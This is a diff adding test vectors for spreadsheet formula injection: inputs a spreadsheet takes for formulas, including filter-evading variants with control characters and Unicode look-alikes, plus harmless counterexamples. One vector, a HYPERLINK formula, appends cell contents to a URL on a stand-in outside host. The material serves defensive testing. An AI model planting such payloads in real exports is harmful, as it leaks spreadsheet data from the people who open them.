@@ -40,3 +40,9 @@ FORBIDDEN_ON_TERMINALS = frozenset(
     + [chr(c) for c in range(0xE0000, 0xE0080)]
 )
 """No text of a site brings one of these to a terminal."""
+FORMULAS = (
+    "=1+1", "  =1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "a;=1", "a;  +1",
+    "a\n-1", "\uff1d1", "\u200b=1", "=HYPERLINK(\"http://elsewhere.example/\"&A1)", "|;@x", "-",
+)  # fmt: skip
+"""What some spreadsheet takes for a formula, wherever it finds it in a line."""
+NO_FORMULAS = ("a=b", "5 - 3", "a;b", "me@shop.example", "'=1", "http://a.example/?b=-1", "", "é+")
